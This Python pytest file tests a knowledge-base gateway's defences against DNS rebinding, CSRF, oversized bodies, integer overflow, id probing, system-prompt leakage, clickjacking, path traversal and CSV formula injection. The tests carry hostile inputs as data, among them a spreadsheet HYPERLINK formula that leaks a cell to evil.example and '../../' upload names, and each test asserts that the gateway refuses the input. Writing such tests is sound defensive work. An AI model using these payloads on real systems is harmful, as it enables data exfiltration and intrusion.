"""Hostile input against the running stack (operator safety, limits, bounds, one 404 text and the attack run's
passing results): the gateway refuses what attacks before doing any work, and never answers
with a 500, an id's owner or the operator's settings.

The operator's calls present its token (the harness's default: a loopback caller that sends
none is nobody). The edge rules are tested all the same: with KB_DEV_LOOPBACK_OPERATOR on, a
loopback caller without a token is the operator, which is exactly what a web page in the
developer's browser could drive."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from gateway.edge.rules import EdgeRules
from gateway.presenter import export_row
from grpc_stubs.chat.v1 import chat_service_pb2 as chat_pb
from kbcore.db.tables import ApiKey
from kbcore.rpc.stubs import ChatStubs
from kbcore.settings import Settings
from services.chat.access.rules import NOT_VISIBLE
from tests.document_jobs import wait_for_documents
from tests.harness import READS_ENGLISH, Stack
from tests.process_stack import listening_port
from tests.sse_client import ask
from tools.seed_demo import DEMO_APPLICATION_ID, DEMO_DATASET_ID

REPO = Path(__file__).resolve().parents[2]
MiB = 1024 * 1024


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def api_key_count(sessions) -> int:
    async with sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(ApiKey)) or 0)


async def document_names(client: httpx.AsyncClient) -> list[str]:
    listed = await client.get(f"/api/dataset/{DEMO_DATASET_ID}/document")
    assert listed.status_code == 200, listed.text
    return sorted(d["name"] for d in listed.json()["data"])


# Operator safety at the edge, whoever calls ---------------------------------------------


async def test_d3_a_foreign_host_is_refused_before_any_work(stack: Stack, sessions) -> None:
    """DNS rebinding: a page at attacker.example whose name resolves to 127.0.0.1 sends
    ``Host: attacker.example``; it created an API key before."""
    before = await api_key_count(sessions)
    async with stack.http(headers={"Host": "attacker.example:8080"}) as rebound:
        created = await rebound.post(f"/api/application/{DEMO_APPLICATION_ID}/api_key")
        listed = await rebound.get("/api/application")
    assert created.status_code == 400 and "KB_ALLOWED_HOSTS" in created.json()["message"], created.text
    assert listed.status_code == 400, "reading as the operator is refused too"
    assert await api_key_count(sessions) == before, "no key was created"
    port = stack.url.rsplit(":", 1)[1]
    async with stack.http(headers={"Host": f"localhost:{port}"}) as local:
        assert (await local.get("/api/application")).status_code == 200, "loopback names are this gateway"


async def test_d3_a_cross_origin_state_change_is_refused_and_origin_less_clients_are_not(
    stack: Stack, sessions
) -> None:
    """CSRF: a page on another origin POSTs into the operator's gateway; curl and SDKs send no
    Origin and same-origin pages send their own, and both stay allowed."""
    before = await api_key_count(sessions)
    url = f"/api/application/{DEMO_APPLICATION_ID}/api_key"
    async with stack.http() as client:
        for origin in ("http://evil.example", "null", stack.url.replace("127.0.0.1", "localhost")):
            refused = await client.post(url, headers={"Origin": origin})
            assert refused.status_code == 403, (origin, refused.text)
            assert "cross-origin request refused" in refused.json()["message"]
        assert await api_key_count(sessions) == before
        assert (await client.post(url)).status_code == 200, "no Origin: curl, an SDK, the CLI"
        assert (await client.post(url, headers={"Origin": stack.url})).status_code == 200, "the page itself"
        read = await client.get("/api/application", headers={"Origin": "http://evil.example"})
        assert read.status_code == 200, "reads are not state changes (CORS keeps their answers from the page)"
    assert await api_key_count(sessions) == before + 2


async def test_d3_a_text_plain_body_is_415_and_plants_no_document(stack: Stack) -> None:
    """The planted document: a ``no-cors`` ``text/plain`` POST was parsed as JSON by the
    upload route whatever its type."""
    planted = json.dumps({"name": "planted", "paragraphs": [{"title": "t", "content": "attacker text"}]})
    async with stack.http() as client:
        before = await document_names(client)
        upload = await client.post(
            f"/api/dataset/{DEMO_DATASET_ID}/document", content=planted, headers={"Content-Type": "text/plain"}
        )
        assert upload.status_code == 415 and "application/json" in upload.json()["message"], upload.text
        untyped = await client.post(f"/api/dataset/{DEMO_DATASET_ID}/document", content=planted.encode())
        assert untyped.status_code == 415, "a body with no declared type is not JSON either"
        assert await document_names(client) == before
        created = await client.post(
            "/api/application", content=json.dumps({"name": "x"}), headers={"Content-Type": "text/plain"}
        )
        assert created.status_code == 415
        form = await client.post("/api/application", data={"name": "x"})  # application/x-www-form-urlencoded
        assert form.status_code == 415
        openai_shaped = await client.post("/v1/chat/completions", content=b"{}", headers={"Content-Type": "text/plain"})
        assert openai_shaped.status_code == 415 and "application/json" in openai_shaped.json()["error"]["message"]


def test_d3_edge_rules_follow_the_listen_host_and_kb_allowed_hosts() -> None:
    loopback = EdgeRules.from_settings(Settings())
    assert loopback.host_refusal("127.0.0.1:8080") is None and loopback.host_refusal("[::1]:8080") is None
    assert loopback.host_refusal("kb.example.org") is not None
    configured = EdgeRules.from_settings(Settings(http_host="0.0.0.0", allowed_hosts="kb.example.org, Other.Host"))
    assert configured.host_refusal("kb.example.org") is None and configured.host_refusal("other.host:80") is None
    assert configured.host_refusal("kb.example.org.attacker.example") is not None
    assert configured.host_refusal("192.168.1.5:8080") is None, "an address names no attacker: no rebinding"
    assert configured.host_refusal("[fe80::1]:8080") is None
    named = EdgeRules.from_settings(Settings(http_host="kb.internal"))
    assert named.host_refusal("kb.internal:8080") is None and named.host_refusal("other.internal") is not None
    assert EdgeRules.from_settings(Settings(allowed_hosts="*")).host_refusal("anything.example") is None
    trusted = EdgeRules.from_settings(Settings(cors_origins="https://kb.example.org"))
    assert trusted.origin_refusal("POST", "https://kb.example.org", "127.0.0.1:8080") is None
    assert trusted.origin_refusal("GET", "https://evil.example", "127.0.0.1:8080") is None


# Limits before work --------------------------------------------------------------------


@pytest.fixture(scope="module")
def gateway_process(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, int]]:
    """A real ``python -m gateway`` process (pid, port), so its own peak RSS can be read. Its
    backends point nowhere: everything asked of it here is refused before they matter."""
    run_dir = tmp_path_factory.mktemp("gateway-run")
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("KB_")},
        "KB_DATA_DIR": str(run_dir),
        "KB_HTTP_PORT": "0",
        "KB_RUN_DIR": str(run_dir),
        "KB_CHAT_TARGET": "127.0.0.1:9",
        "KB_RETRIEVAL_TARGET": "127.0.0.1:9",
        "KB_LOG_LEVEL": "WARNING",
    }
    process = subprocess.Popen([sys.executable, "-m", "gateway"], cwd=REPO, env=env)
    try:
        yield process.pid, listening_port(process, run_dir / "gateway.port", timeout=60)
    finally:
        process.terminate()
        process.wait(timeout=20)


def peak_rss_mib(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    line = next(line for line in status.splitlines() if line.startswith("VmHWM:"))
    return int(line.split()[1]) / 1024


async def _chunks(total: int, size: int) -> AsyncIterator[bytes]:
    piece = b"x" * size
    for _ in range(total // size):
        yield piece


async def stream_until_answered(port: int, head: bytes, total: int) -> tuple[bytes, int]:
    """Send ``head`` then a chunked body of ``total`` bytes, reading the answer meanwhile;
    returns the answer's status line and how many body bytes had gone out when it came."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    answer = asyncio.create_task(reader.readuntil(b"\r\n"))
    sent = 0
    try:
        writer.write(head)
        async for piece in _chunks(total, MiB):
            if answer.done():
                break
            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            await writer.drain()
            # drain() returns without yielding while the server keeps up (it discards a refused
            # body as fast as it comes), so the reading task would not see an early answer: a
            # client that reads while it sends (curl) lets it run between pieces.
            await asyncio.sleep(0)
            sent += len(piece)
        status = await asyncio.wait_for(answer, timeout=30)
    except (ConnectionResetError, BrokenPipeError):
        status = await asyncio.wait_for(answer, timeout=30)
    finally:
        writer.close()
    return status, sent


async def test_d4_a_300_mb_anonymous_post_is_refused_while_it_streams(gateway_process: tuple[int, int]) -> None:
    """One anonymous 284 MB POST took the gateway from 74 MB to a 1.3 GB peak: it was read
    whole and parsed before anyone asked who sent it."""
    pid, port = gateway_process
    total = 300 * 1000 * 1000
    head = (
        f"POST /api/application/chat_message/some-chat HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        "Authorization: Bearer nobody-issued-this\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    ).encode()
    status, sent = await stream_until_answered(port, head, total)
    assert status.split()[1] in (b"413", b"401"), status
    assert sent < 32 * MiB, f"refused only after {sent} of {total} bytes"
    declared = head.replace(b"Transfer-Encoding: chunked", f"Content-Length: {total}".encode())
    status, sent = await stream_until_answered(port, declared, total)
    assert status.split()[1] == b"413" and sent < 32 * MiB, (status, sent)
    assert peak_rss_mib(pid) < 150, f"the gateway's peak RSS was {peak_rss_mib(pid):.0f} MiB"


async def test_d4_json_bodies_and_form_data_are_bounded_and_uploads_keep_their_own_limit(stack: Stack) -> None:
    async with stack.http() as client:
        chat_id = (await client.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/open")).json()["data"]
        big = await client.post(
            f"/api/application/chat_message/{chat_id}",
            content=_chunks(3 * MiB, 64 * 1024),
            headers={"Content-Type": "application/json"},
        )
        assert big.status_code == 413 and big.json()["message"] == "the request body is larger than 1 MiB"
        declared = await client.post(
            f"/api/application/chat_message/{chat_id}",
            content=b"x" * 3 * MiB,
            headers={"Content-Type": "application/json"},
        )
        assert declared.status_code == 413 and declared.json()["message"] == big.json()["message"]
        response, _ = await ask(client, chat_id, "年假有几天？", form_data={"blob": "x" * 100_000})
        assert response.status_code == 400 and "form_data is larger than 16 KiB" in response.json()["message"]
        # A 2 MiB file passes the body limit (the upload route allows a KB_UPLOAD_MAX_MB file)
        # and is refused for what it is, not for its size.
        dataset = (await client.post("/api/dataset", json={"name": "limits"})).json()["data"]["id"]
        upload = await client.post(
            f"/api/dataset/{dataset}/document", files={"file": ("big.bin", b"%PDF" + b"0" * (2 * MiB))}
        )
        assert upload.status_code == 415 and "supported types" in upload.json()["message"], upload.text


# Integers bounded everywhere -----------------------------------------------------------


async def test_d8_out_of_range_integers_are_4xx_that_say_so(stack: Stack) -> None:
    async with stack.http() as client:
        chat_id = (await client.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/open")).json()["data"]
        records = f"/api/application/{DEMO_APPLICATION_ID}/chat/{chat_id}/chat_record"
        probes = {
            f"{records}/99999999999999999999": "record_id",
            f"{records}/0": "record_id",
            f"{records}/99999999999/10": "page",
            f"{records}/1/99999999999": "size",
            f"{records}/1/1000": "size",
            f"/api/dataset/{DEMO_DATASET_ID}/hit_test?query_text=q&top_number=99999999999": "top_number",
        }
        for path, field in probes.items():
            answer = await client.get(path)
            assert answer.status_code == 400 and field in answer.json()["message"], (path, answer.text)
        for body, field in (
            ({"name": "n", "dialogue_number": 99999999999}, "dialogue_number"),
            ({"name": "n", "dialogue_number": -1}, "dialogue_number"),
            ({"name": "n", "dataset_setting": {"top_n": 2**70}}, "top_n"),
        ):
            answer = await client.post("/api/application", json=body)
            assert answer.status_code == 400 and field in answer.json()["message"], (body, answer.text)
        quota = await client.post(f"/api/application/{DEMO_APPLICATION_ID}/access_token", json={"access_num": 2**40})
        assert quota.status_code == 400 and "access_num" in quota.json()["message"]
        ask = [{"role": "user", "content": "年假有几天？"}]
        for extra in ({"n": 2**70}, {"max_tokens": 2**70, "n": 2}, {"temperature": 1e308}):
            body = {"model": DEMO_APPLICATION_ID, "messages": ask, **extra}
            answer = await client.post("/v1/chat/completions", json=body)
            assert answer.status_code == 400 and answer.json()["error"]["message"], (extra, answer.text)


async def test_d8_a_grpc_record_id_out_of_range_is_invalid_argument(stack: Stack) -> None:
    import grpc

    from kbcore.rpc.caller_token import bearer as metadata_for
    from kbcore.rpc.caller_token import operator_token
    from kbcore.rpc.client import open_channel

    async with open_channel(stack.chat_target, stack.credential) as channel:
        chat = ChatStubs.of(channel)
        operator = metadata_for(operator_token(stack.settings))
        opened = await chat.applications.OpenChat(
            chat_pb.OpenChatRequest(application_id=DEMO_APPLICATION_ID), metadata=operator
        )
        for raw in ("99999999999999999999", "²", "1" * 5000):
            with pytest.raises(grpc.aio.AioRpcError) as refused:
                await chat.answers.GetRecord(
                    chat_pb.GetRecordRequest(chat_id=opened.chat_id, record_id=raw), metadata=operator
                )
            assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT, refused.value.details()


# One 404 text ---------------------------------------------------------------------------


async def test_d9_every_id_a_caller_may_not_see_answers_the_same_404(stack: Stack, unique: str) -> None:
    """An application key probing ids: "chat does not exist" vs "application <id> does not
    exist" told it which chat ids exist and which application owns them."""
    async with stack.http() as operator:
        other_app = (await operator.post("/api/application", json={"name": f"other-{unique}"})).json()["data"]["id"]
        other_chat = (await operator.get(f"/api/application/{other_app}/chat/open")).json()["data"]
        key = (await operator.post(f"/api/application/{DEMO_APPLICATION_ID}/api_key")).json()["data"]["secret_key"]
    async with stack.http(headers=bearer(key)) as prober:
        own_chat = (await prober.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/open")).json()["data"]
        probes = [
            prober.get(f"/api/application/{other_app}/chat/open"),
            prober.get(f"/api/application/{other_app}"),
            prober.get(f"/api/application/{other_app}/chat/export"),
            prober.post(f"/api/application/chat_message/{other_chat}/stop"),
            prober.post("/api/application/chat_message/no-such-chat/stop"),
            prober.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/{other_chat}/chat_record/1/10"),
            prober.get(f"/api/application/{other_app}/chat/{other_chat}/chat_record/1"),
            prober.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/no-such-chat/chat_record/1"),
            prober.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/{own_chat}/chat_record/123456"),
            prober.post(f"/api/application/chat_message/{other_chat}", json={"message": "年假有几天？"}),
        ]
        answers = [await probe for probe in probes]
    for answer in answers:
        assert answer.status_code == 404, answer.text
        assert answer.json()["message"] == str(NOT_VISIBLE), answer.text
        assert other_app not in answer.text and other_chat not in answer.text


# CSV formula injection ---------------------------------------------------------------


def test_d10_export_rows_neutralise_formula_prefixes() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        record = chat_pb.ChatRecord(id="1", chat_id="c", question=f'{prefix}HYPERLINK("http://evil.example","x")')
        record.answer = f"{prefix}1+1"
        row = export_row(record)
        assert row["question"].startswith("'" + prefix) and row["answer"] == f"'{prefix}1+1"
    plain = export_row(chat_pb.ChatRecord(id="2", chat_id="c", question="年假有几天？", answer="5 天"))
    assert plain["question"] == "年假有几天？" and plain["answer"] == "5 天" and plain["record_id"] == "2"


async def test_d10_a_formula_question_is_exported_as_text(stack: Stack) -> None:
    question = '=HYPERLINK("http://evil.example/?leak="&A1,"年假")'
    async with stack.http() as client:
        chat_id = (await client.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/open")).json()["data"]
        response, _ = await ask(client, chat_id, question)
        assert response.status_code == 200
        exported = await client.get(f"/api/application/{DEMO_APPLICATION_ID}/chat/export")
    rows = [r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))) if r["chat_id"] == chat_id]
    assert [r["question"] for r in rows] == ["'" + question]
    assert exported.headers["x-content-type-options"] == "nosniff"


# A visitor's view of an application ---------------------------------------------------


async def test_d11_a_visitor_reads_only_what_the_chat_page_shows(stack: Stack, unique: str) -> None:
    secret = f"SECRET-SYSTEM-PROMPT-{unique}"
    async with stack.http() as operator:
        app_id = (
            await operator.post(
                "/api/application",
                json={"name": f"shown-{unique}", "desc": "说明", "model_setting": {"system": secret, "prompt": secret}},
            )
        ).json()["data"]["id"]
        link = (await operator.post(f"/api/application/{app_id}/access_token", json={})).json()["data"]
        signed_in = await operator.post("/api/application/authentication", json={"access_token": link["access_token"]})
        key = (await operator.post(f"/api/application/{app_id}/api_key")).json()["data"]["secret_key"]
        full = (await operator.get(f"/api/application/{app_id}")).json()["data"]
    assert full["model_setting"]["system"] == secret
    async with stack.http(headers=bearer(signed_in.json()["data"])) as visitor:
        seen = await visitor.get(f"/api/application/{app_id}")
    assert seen.status_code == 200 and secret not in seen.text
    page = {  # what the share page shows
        "prologue": "",
        "show_source": True,
        "show_trace": True,
        "progress_mode": "reasoning",
        "title": "",
        "logo": "",
        "accent_color": "",
        "disclaimer": False,
        "disclaimer_value": "",
        "placeholder": "",
    }
    assert seen.json()["data"] == {"id": app_id, "name": f"shown-{unique}", "desc": "说明", **page}
    async with stack.http(headers=bearer(key)) as application:
        assert (await application.get(f"/api/application/{app_id}")).json()["data"] == full


# Headers, /docs, and the attack run's passing results ---------------------------------------


async def test_every_response_is_nosniff_and_docs_load_nothing_from_a_cdn(stack: Stack) -> None:
    async with stack.http() as client:
        answers = [
            await client.get("/api/application"),
            await client.get("/api/application/nope/chat/nope/chat_record/1"),
            await client.get("/ui/admin"),
            await client.post("/api/application", content=b"x", headers={"Content-Type": "text/plain"}),
            await client.get("/openapi.json"),
        ]
        docs = await client.get("/docs")
    assert all(a.headers.get("x-content-type-options") == "nosniff" for a in answers), [a.url for a in answers]
    assert answers[-1].status_code == 200, "the OpenAPI description stays"
    assert docs.status_code == 404 and "cdn" not in docs.text.lower(), "Swagger UI is off unless KB_HTTP_DOCS"


async def test_only_the_share_page_may_be_framed_by_another_site_and_the_embed_script_loads_anywhere(
    stack: Stack,
) -> None:
    """Clickjacking: the operator page and the key-based chat page refuse every frame; the share
    page, which another site embeds (docs/pages.md), may be framed."""

    def ancestors(answer: httpx.Response) -> str:
        policy = answer.headers["content-security-policy"]
        return next(d.strip() for d in policy.split(";") if d.strip().startswith("frame-ancestors"))

    async with stack.http(anonymous=True) as client:
        admin, chat = await client.get("/ui/admin"), await client.get("/ui/chat/some-app")
        share, script = await client.get("/ui/share/0123456789abcdef"), await client.get("/ui/embed.js")
    assert ancestors(admin) == ancestors(chat) == "frame-ancestors 'none'"
    assert ancestors(share) == "frame-ancestors *"
    assert share.headers["content-security-policy"].replace("*", "'none'") == admin.headers["content-security-policy"]
    assert script.status_code == 200 and script.headers["content-type"].startswith("text/javascript")
    assert script.headers["cross-origin-resource-policy"] == "cross-origin"
    assert "document.currentScript" in script.text


async def test_upload_names_with_dot_dot_write_nothing_outside_the_data_dir(stack: Stack, unique: str) -> None:
    data_dir = Path(stack.settings.data_dir).resolve()
    watched = [data_dir.parent, data_dir.parent.parent, REPO]
    name = f"escape-{unique}.md"

    def escaped() -> list[Path]:
        return [p for root in watched for p in root.rglob(name) if data_dir not in p.parents]

    async with stack.http() as client:
        dataset = (await client.post("/api/dataset", json={"name": f"paths-{unique}"})).json()["data"]["id"]
        for filename in (f"../../{name}", f"..\\..\\{name}", f"/tmp/{name}"):
            upload = await client.post(
                f"/api/dataset/{dataset}/document",
                files={"file": (filename, f"# 逃逸测试 {unique}\n\n路径名不应写出数据目录。".encode())},
            )
            assert upload.status_code in (200, 400), upload.text
            await wait_for_documents(client, dataset)  # the job, which reads the stored upload, has run
    assert escaped() == [] and not Path("/tmp", name).exists()


async def test_docs_are_served_only_when_kb_http_docs_asks(tmp_path: Path) -> None:
    from gateway.app import create_app

    for enabled, status in ((True, 200), (False, 404)):
        app = create_app(Settings(data_dir=tmp_path, http_docs=enabled))
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=READS_ENGLISH) as client:
            assert (await client.get("/docs")).status_code == status
            assert (await client.get("/openapi.json")).status_code == 200
